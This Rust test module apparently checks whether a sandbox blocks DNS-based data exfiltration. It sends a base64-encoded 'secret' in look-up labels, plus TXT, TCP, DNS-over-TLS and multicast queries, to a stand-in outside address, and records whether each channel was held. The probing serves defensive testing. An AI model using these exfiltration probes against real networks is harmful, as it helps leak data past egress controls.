//! DNS as a way out: every question is answered inside, with nothing of the world's in the answer.
use super::{Attempt, Group, Outcome, World};
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

const PATIENCE: Duration = Duration::from_millis(400);
const ELSEWHERE: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 53);
const A: u16 = 1;
const TXT: u16 = 16;

pub(super) const ATTEMPTS: &[Attempt] = &[
    dns("dns-label-leak", "data in the labels of a look-up", |_| {
        judge(ask_udp(SocketAddr::from((ELSEWHERE, 53)), &question("c2VjcmV0.leak.test", A)))
    }),
    dns("dns-other-server-tcp", "another server, over TCP", |_| {
        judge(ask_tcp(SocketAddr::from((ELSEWHERE, 53)), &question("c2VjcmV0.leak.test", A)))
    }),
    dns("dns-txt", "answers that carry data", |_| {
        no_data(ask_udp(SocketAddr::from((ELSEWHERE, 53)), &question("leak.test", TXT)))
    }),
    dns("dns-over-tls", "DNS over TLS", |_| nothing(SocketAddr::from((ELSEWHERE, 853)))),
    dns("mdns", "multicast DNS", |_| {
        match ask_udp(SocketAddr::from((Ipv4Addr::new(224, 0, 0, 251), 5353)), &question("host.local", A)) {
            Ok(answer) => Outcome::Broke(format!("{} bytes came back", answer.len())),
            Err(error) => Outcome::Held(error.to_string()),
        }
    }),
];

const fn dns(name: &'static str, gain: &'static str, run: fn(&World) -> Outcome) -> Attempt {
    Attempt { name, group: Group::Names, gain, run }
}

/// A question with recursion desired.
fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut message = vec![0x42, 0x42, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        message.push(u8::try_from(label.len()).unwrap_or(0));
        message.extend_from_slice(label.as_bytes());
    }
    message.push(0);
    message.extend_from_slice(&kind.to_be_bytes());
    message.extend_from_slice(&[0, 1]);
    message
}

fn ask_udp(server: SocketAddr, question: &[u8]) -> std::io::Result<Vec<u8>> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.connect(server)?;
    socket.send(question)?;
    let mut buffer = [0_u8; 1500];
    let n = socket.recv(&mut buffer)?;
    Ok(buffer.get(..n).unwrap_or_default().to_vec())
}

fn ask_tcp(server: SocketAddr, question: &[u8]) -> std::io::Result<Vec<u8>> {
    let mut stream = TcpStream::connect_timeout(&server, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.write_all(&u16::try_from(question.len()).unwrap_or(0).to_be_bytes())?;
    stream.write_all(question)?;
    let mut length = [0_u8; 2];
    stream.read_exact(&mut length)?;
    let mut answer = vec![0_u8; usize::from(u16::from_be_bytes(length))];
    stream.read_exact(&mut answer)?;
    Ok(answer)
}

/// An answer is the bottle's own when its address is synthetic (198.18.0.0/15), or when there is none.
fn judge(answer: std::io::Result<Vec<u8>>) -> Outcome {
    match answer {
        Err(error) => Outcome::Held(error.to_string()),
        Ok(answer) if answers(&answer) == 0 => Outcome::Held("an empty answer".into()),
        Ok(answer) => match answer.as_slice() {
            [.., 198, 18 | 19, _, _] => Outcome::Held("a synthetic address".into()),
            [.., a, b, c, d] => Outcome::Broke(format!("answered {a}.{b}.{c}.{d}")),
            _ => Outcome::Broke("an unreadable answer".into()),
        },
    }
}

fn no_data(answer: std::io::Result<Vec<u8>>) -> Outcome {
    match answer {
        Ok(answer) if answers(&answer) > 0 => Outcome::Broke("a TXT record came back".into()),
        Ok(_) => Outcome::Held("an empty answer".into()),
        Err(error) => Outcome::Held(error.to_string()),
    }
}

/// Number of answer records, by the header.
fn answers(message: &[u8]) -> u16 {
    message.get(6..8).map_or(0, |b| u16::from_be_bytes([b[0], b[1]]))
}

/// A server that speaks TLS to no name and forwards nothing: what is captured there ends in a refusal or a close.
fn nothing(server: SocketAddr) -> Outcome {
    match ask_tcp(server, &question("leak.test", A)) {
        Ok(answer) => judge(Ok(answer)),
        Err(error) => Outcome::Held(error.to_string()),
    }
}
